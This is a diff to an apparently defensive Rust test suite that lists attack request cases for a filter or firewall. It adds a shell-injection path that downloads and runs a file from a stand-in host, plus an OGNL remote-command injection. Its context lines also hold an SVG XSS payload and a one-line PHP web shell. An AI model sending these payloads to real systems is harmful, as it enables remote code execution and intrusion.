@@ -701,6 +701,16 @@ pub fn attack_cases() -> Vec<Case> {
             "multipart/form-data; boundary=XyZb0undary",
             &multipart_body(b, "title", "<svg/onload=alert(1)>"),
         ),
+        Case::new(
+            "shell commands in the path (router botnet)",
+            "GET",
+            "/cgi-bin/;cd${IFS}/tmp;wget${IFS}http://192.0.2.1/x;sh${IFS}x",
+        ),
+        Case::new(
+            "OGNL expression in the path (Confluence)",
+            "GET",
+            "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/",
+        ),
         Case::new("PHP web shell upload", "POST", "/upload").body(
             "multipart/form-data; boundary=XyZb0undary",
             &multipart_file(b, "shell.php", b"<?php system($_GET['c']); ?>"),
